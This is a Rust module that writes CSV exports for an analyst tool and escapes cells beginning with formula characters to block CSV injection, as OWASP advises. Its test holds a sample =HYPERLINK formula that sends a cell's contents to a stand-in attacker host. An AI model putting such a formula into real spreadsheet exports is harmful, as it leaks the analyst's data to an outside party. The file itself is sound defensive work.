//! The CSV files the analyst exports (the audit log, the watchlist): a header line,
//! then one line per record, comma-separated UTF-8, written by atomic rename.
//!
//! Cells hold text the applicant or the service chose (a company name, a message). A
//! spreadsheet runs a cell that begins with `=`, `+`, `-` or `@` (and, in some, a tab
//! or a carriage return) as a formula: `=HYPERLINK(…)` in a company name would run on
//! the analyst's machine. Such cells are written with a leading `'`, which spreadsheets
//! take as "this is text" (OWASP's advice for CSV injection).

use std::path::Path;

use crate::error::{AppError, AppResult, Task};
use crate::fsio;

/// `header` and `rows` as CSV text.
pub fn text<R>(header: &[&str], rows: impl IntoIterator<Item = R>) -> AppResult<String>
where
    R: IntoIterator,
    R::Item: AsRef<[u8]>,
{
    let mut writer = csv::Writer::from_writer(Vec::new());
    writer
        .write_record(header)
        .map_err(|e| AppError::storage(Task::WriteCsv, e))?;
    for row in rows {
        let cells: Vec<Vec<u8>> = row.into_iter().map(|c| as_text(c.as_ref())).collect();
        writer
            .write_record(&cells)
            .map_err(|e| AppError::storage(Task::WriteCsv, e))?;
    }
    let bytes = writer
        .into_inner()
        .map_err(|e| AppError::storage(Task::WriteCsv, e))?;
    String::from_utf8(bytes).map_err(|e| AppError::storage(Task::WriteCsv, e))
}

/// Characters that make a spreadsheet read a cell as a formula when they come first.
const FORMULA_STARTS: [u8; 6] = [b'=', b'+', b'-', b'@', b'\t', b'\r'];

/// A cell as the spreadsheet must take it: text, never a formula.
fn as_text(cell: &[u8]) -> Vec<u8> {
    match cell.first() {
        Some(first) if FORMULA_STARTS.contains(first) => [b"'".as_slice(), cell].concat(),
        _ => cell.to_vec(),
    }
}

/// Writes an export to where the analyst chose, whole or not at all.
pub fn save(path: &Path, csv: &str) -> AppResult<()> {
    fsio::write_atomic(path, csv.as_bytes()).map_err(|e| AppError::storage(Task::WriteCsv, e))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_cell_that_a_spreadsheet_would_run_is_written_as_text() {
        let csv = text(
            &["Empresa", "Mensaje"],
            [
                [
                    "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Ver\")",
                    "+52 55",
                ],
                ["-1+1", "@SUM(A1:A2)"],
                ["\tcmd", "\r=1"],
                ["Panificadora La Espiga", "1-2"],
            ],
        )
        .expect("written");
        let mut reader = csv::Reader::from_reader(csv.as_bytes());
        let cells: Vec<String> = reader
            .records()
            .flat_map(|r| {
                r.expect("a row")
                    .iter()
                    .map(str::to_owned)
                    .collect::<Vec<_>>()
            })
            .collect();
        assert_eq!(
            cells,
            [
                "'=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Ver\")",
                "'+52 55",
                "'-1+1",
                "'@SUM(A1:A2)",
                "'\tcmd",
                "'\r=1",
                "Panificadora La Espiga",
                "1-2",
            ]
        );
        // The header is the app's own and goes as it is.
        assert!(csv.starts_with("Empresa,Mensaje\n"));
    }
}
